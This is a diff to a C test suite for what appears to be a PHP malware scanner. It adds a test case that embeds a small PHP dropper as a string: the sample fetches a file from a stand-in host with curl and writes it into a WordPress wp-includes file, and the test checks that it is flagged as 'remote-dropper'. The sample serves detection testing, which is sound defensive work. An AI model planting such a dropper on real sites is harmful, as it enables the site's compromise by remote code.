@@ -517,6 +517,17 @@ test_yara_and_verdict(void)
 		for (i = 0; i < r.n && strcmp(r.f[i].cls, "tiny-uploader") != 0; i++)
 			;
 		T_CHECK(i < r.n, "up.php: no tiny-uploader finding");
+		/* a dropper fetching through a helper of its own */
+		{
+			static const char dr[] =
+				"<?php\nfunction grab($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);"
+				" return curl_exec($c); }\n$t = grab('https://example.invalid/p/abc.txt');\n"
+				"$h = fopen($_SERVER['DOCUMENT_ROOT'] . '/wp-includes/class-x.php', 'w');\nfwrite($h, $t);\n";
+
+			T_OK(analyse_buf(a, (const uint8_t *)dr, sizeof(dr) - 1, "dr.php", &r) == 0);
+			T_EQ_INT(r.verdict, ANALYSE_SUSPICIOUS);
+			T_EQ_STR(r.n > 0 ? r.f[0].cls : "", "remote-dropper");
+		}
 		/* the same form inside an application (it includes its own code): no finding */
 		snprintf(app, sizeof(app), "<?php require_once __DIR__ . '/lib/init.php'; ?>\n%s", up);
 		T_OK(analyse_buf(a, (const uint8_t *)app, strlen(app), "media.php", &r) == 0);
